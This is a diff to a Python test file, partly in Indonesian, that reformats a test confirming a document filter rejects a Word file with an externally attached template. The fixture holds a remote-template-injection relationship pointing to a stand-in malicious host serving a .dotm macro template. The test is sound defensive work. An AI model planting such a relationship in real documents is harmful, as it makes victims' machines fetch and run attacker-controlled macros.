@@ -132,9 +132,7 @@ def test_a_macro_document_under_a_plain_name_is_kept_out(bahan):
 
 
 def test_a_template_from_elsewhere_is_kept_out(bahan):
-    rel = (
-        '<Relationship Type="http://x/attachedTemplate" Target="http://jahat/t.dotm" TargetMode="External"/>'
-    )
+    rel = '<Relationship Type="http://x/attachedTemplate" Target="http://jahat/t.dotm" TargetMode="External"/>'
     isi = bahan.kantor("wordprocessingml.document", {"word/_rels/settings.xml.rels": rel})
     assert "templat" in ditolak(isi, "a.docx")
 
